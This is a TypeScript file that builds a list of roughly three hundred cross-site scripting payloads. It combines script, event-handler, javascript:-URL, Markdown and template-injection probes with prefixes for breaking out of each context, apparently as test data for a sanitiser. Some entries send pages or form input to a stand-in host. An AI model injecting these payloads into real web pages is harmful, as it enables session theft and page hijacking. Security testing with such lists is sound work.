/** What makes something of words in HTML, in attributes, in addresses, in Markdown and in scripts. `XSS` marks them all. */
export const MARKUP: readonly string[] = [
  '<xssmark>XSS', '<script>XSS()</script>', '"><img src=x onerror=XSS()>', "'><svg onload=XSS()>", '<iframe src="javascript:XSS()">', 'javascript:XSS()', '</script><script>XSS()</script>', '</title><script>XSS()</script>', '</textarea><xssmark>XSS', '" onmouseover="XSS()" x="', "' onfocus='XSS()' autofocus x='", '<a href="javascript:XSS()">x</a>', '[x](javascript:XSS())', '![x](javascript:XSS())', '[x](<javascript:XSS()>)', '<javascript:XSS()>', '[x](data:text/html,<script>XSS()</script>)',
  '<style>*{background:url(javascript:XSS())}</style>', '<math><mi xlink:href="javascript:XSS()">', '<details open ontoggle=XSS()>', '<base href="//XSS.example">', '<meta http-equiv="refresh" content="0;url=//XSS.example">', '<form action="//XSS.example"><input name=x>', '<object data="//XSS.example">', '<!--<xssmark>XSS-->', '--><xssmark>XSS', ']]><xssmark>XSS', '<![CDATA[<xssmark>XSS]]>', '&lt;xssmark&gt;XSS', '&#60;xssmark&#62;XSS', '\\u003cxssmark\\u003eXSS', '{{XSS}}', '${XSS}', '<%= XSS %>', '<x/onclick=XSS()>', '<svg/onload=XSS()>', '<img src=`x`onerror=XSS()>', '\u2028<xssmark>XSS', '<sCrIpT>XSS()</ScRiPt>', '<\u0073cript>XSS()</script>',
];

/** Ways out of where words stand: an attribute, an element, a script, a style, a comment, JSON, a template. */
const OUT: readonly string[] = ['', '">', "'>", '</div>', '</style>', '*/', '\\"', '`}'];
/** Each of them out of each place: some three hundred. */
export const PAYLOADS: readonly string[] = [...new Set(OUT.flatMap((out) => MARKUP.map((one) => out + one)))];
